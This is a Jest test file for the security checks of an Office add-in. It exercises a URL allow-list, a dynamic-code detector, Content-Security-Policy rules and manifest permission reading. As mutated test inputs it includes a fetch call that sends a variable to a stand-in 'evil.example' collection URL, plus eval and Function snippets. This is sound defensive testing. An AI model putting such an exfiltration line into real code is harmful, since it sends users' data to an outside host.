/**
 * Each security check of checks.ts fails on a mutated input: the real page,
 * manifest and bundle idioms pass, and one changed string makes each check report.
 */
import fs from "fs";
import path from "path";
import {
  cspOf,
  cspProblems,
  dynamicCodeIn,
  manifestOrigin,
  OFFICE_JS,
  permissionsOf,
  scriptProblems,
  urlsIn,
} from "./checks";

const root = path.resolve(__dirname, "../..");
const page = fs.readFileSync(path.join(root, "src/taskpane/taskpane.html"), "utf8");
const manifest = fs.readFileSync(path.join(root, "manifest.xml"), "utf8");
const own = "https://localhost:3000";
const disallowed = (text: string, kind: Parameters<typeof urlsIn>[1]) =>
  urlsIn(text, kind, own)
    .filter((u) => !u.allowed)
    .map((u) => u.url);

describe("the URL check", () => {
  test("allows the source page and manifest as they are", () => {
    expect(disallowed(page, "html")).toEqual([]);
    expect(disallowed(manifest, "manifest")).toEqual([]);
    expect(manifestOrigin(manifest)).toBe(own);
  });

  test.each([
    ['fetch("https://evil.example/collect?d="+x)', "js", "https://evil.example/collect?d="],
    ['new WebSocket("wss://ws.example/live")', "js", "wss://ws.example/live"],
    [
      '"https://appsforoffice.microsoft.com/lib/beta/hosted/office.js"',
      "js",
      "https://appsforoffice.microsoft.com/lib/beta/hosted/office.js",
    ],
    ['"https://appsforoffice.microsoft.com"', "js", "https://appsforoffice.microsoft.com"],
    ['"https://localhost:3001/taskpane.html"', "js", "https://localhost:3001/taskpane.html"],
    // A namespace host over https, or another path scheme, is not a namespace name.
    ['"https://www.w3.org/2000/svg"', "js", "https://www.w3.org/2000/svg"],
    ['"http://evil.example/ns"', "js", "http://evil.example/ns"],
    // Documented URLs only where documented: the publisher's site never in code.
    ['location.href="https://www.flextender.nl/"', "js", "https://www.flextender.nl/"],
    [
      '<SupportUrl DefaultValue="https://support.example/"/>',
      "manifest",
      "https://support.example/",
    ],
  ] as const)("reports %s", (text, kind, url) => {
    expect(disallowed(text, kind)).toContain(url);
  });

  test("a manifest comment is ignored, the same URL in an element is not", () => {
    expect(disallowed("<!-- see https://elsewhere.example/ -->", "manifest")).toEqual([]);
    expect(
      disallowed('<IconUrl DefaultValue="https://elsewhere.example/i.png"/>', "manifest")
    ).toEqual(["https://elsewhere.example/i.png"]);
  });

  test("namespace names and the React error link pass in code", () => {
    expect(
      disallowed(
        'createElementNS("http://www.w3.org/2000/svg","g");x="http://schemas.openxmlformats.org/officeDocument/2006/relationships";' +
          'e="https://reactjs.org/docs/error-decoder.html?invariant="+n',
        "js"
      )
    ).toEqual([]);
  });
});

describe("the dynamic-code check", () => {
  test.each([
    'eval("1+1")',
    'const f = new Function("a", "return a")',
    'Function("return process")()',
    'window["eval"](code)',
    'setTimeout("alert(1)", 10)',
  ])("reports %s in our code and in a bundle", (code) => {
    expect(dynamicCodeIn(code)).toHaveLength(1);
    expect(dynamicCodeIn(code, true).filter((u) => !u.exception)).toHaveLength(1);
  });

  test("the documented third-party idioms pass only in bundles, never in our code", () => {
    const idioms =
      'try{return this||new Function("return this")()}catch(e){}' +
      'o=i||s||Function("return this")();' +
      'h.setImmediate=function(e){"function"!=typeof e&&(e=new Function(""+e))}' +
      'h.setImmediate=function(e){"function"!=typeof e&&(e=Function(""+e))}' + // as swc writes it
      'globalThis?globalThis.regeneratorRuntime=n:Function("r","regeneratorRuntime = r")(n)' +
      // pdfjs-dist's eval test and PostScript compiler, as terser and as swc write them
      'try{return new Function(""),!0}catch{return!1}' +
      'try{return Function(""),!0}catch{return!1}' +
      'if(e)return new Function("src","srcOffset","dest","destOffset",e)' +
      'if(e)return Function("src","srcOffset","dest","destOffset",e)';
    expect(dynamicCodeIn(idioms, true).filter((u) => !u.exception)).toEqual([]);
    expect(dynamicCodeIn(idioms, true)).toHaveLength(9);
    expect(dynamicCodeIn(idioms)).toHaveLength(9);
  });

  test("names that merely contain the words are not dynamic code", () => {
    expect(
      dynamicCodeIn("isFunction(x); evaluate(y); retrieval(z); myeval(w); x.Function(1)")
    ).toEqual([]);
  });
});

describe("the CSP check", () => {
  const policy = cspOf(page)!;

  test("the source page's policy passes", () => {
    expect(policy).toContain("script-src");
    expect(cspProblems(policy)).toEqual([]);
    expect(scriptProblems(page)).toEqual([]);
  });

  test.each([
    [
      "'unsafe-eval' for scripts",
      (p: string) => p.replace("script-src 'self'", "script-src 'self' 'unsafe-eval'"),
    ],
    [
      "inline scripts",
      (p: string) => p.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
    ],
    [
      "a script CDN",
      (p: string) => p.replace("script-src 'self'", "script-src 'self' https://cdn.example"),
    ],
    [
      "any https host for images",
      (p: string) => p.replace("img-src 'self' data:", "img-src 'self' https:"),
    ],
    ["a wildcard default", (p: string) => p.replace("default-src 'self'", "default-src *")],
    [
      "connections elsewhere",
      (p: string) => p.replace("connect-src 'self'", "connect-src 'self' https://api.example"),
    ],
    ["no object-src", (p: string) => p.replace("object-src 'none';", "")],
    ["no base-uri", (p: string) => p.replace(/;?\s*base-uri 'self'/, "")],
  ])("reports %s", (_, mutate) => {
    const mutated = mutate(policy);
    expect(mutated).not.toBe(policy);
    expect(cspProblems(mutated).length).toBeGreaterThan(0);
  });

  test("a page without the meta element is reported", () => {
    const stripped = page.replace(/<meta\s+http-equiv="Content-Security-Policy"[\s\S]*?\/>/, "");
    expect(stripped).not.toBe(page);
    expect(cspOf(stripped)).toBeUndefined();
    expect(cspProblems(cspOf(stripped))).toEqual(["no Content-Security-Policy meta element"]);
  });

  test("reads the minified form html-webpack-plugin writes", () => {
    const minified = `<meta http-equiv=Content-Security-Policy content="${policy}">`;
    expect(cspOf(minified)).toBe(policy);
  });

  test("scripts from elsewhere or inline are reported", () => {
    expect(
      scriptProblems(`<script src=${OFFICE_JS}></script><script defer src=taskpane.js></script>`)
    ).toEqual([]);
    expect(scriptProblems('<script src="https://cdn.example/react.js"></script>')).toHaveLength(1);
    expect(scriptProblems("<script src=//cdn.example/react.js></script>")).toHaveLength(1);
    expect(scriptProblems("<script>window.x = 1</script>")).toEqual(["an inline script"]);
  });
});

describe("the permission check", () => {
  test("reads ReadWriteDocument from the manifest", () => {
    expect(permissionsOf(manifest)).toEqual(["ReadWriteDocument"]);
  });

  test.each(["ReadWriteMailbox", "WriteDocument", "Restricted"])(
    "a manifest asking %s differs",
    (p) => {
      const mutated = manifest.replace(
        "<Permissions>ReadWriteDocument</Permissions>",
        `<Permissions>${p}</Permissions>`
      );
      expect(permissionsOf(mutated)).toEqual([p]);
    }
  );

  test("a second Permissions element shows", () => {
    const doubled = manifest.replace(
      "<Permissions>ReadWriteDocument</Permissions>",
      "<Permissions>ReadWriteDocument</Permissions><Permissions>ReadWriteMailbox</Permissions>"
    );
    expect(permissionsOf(doubled)).toEqual(["ReadWriteDocument", "ReadWriteMailbox"]);
  });
});
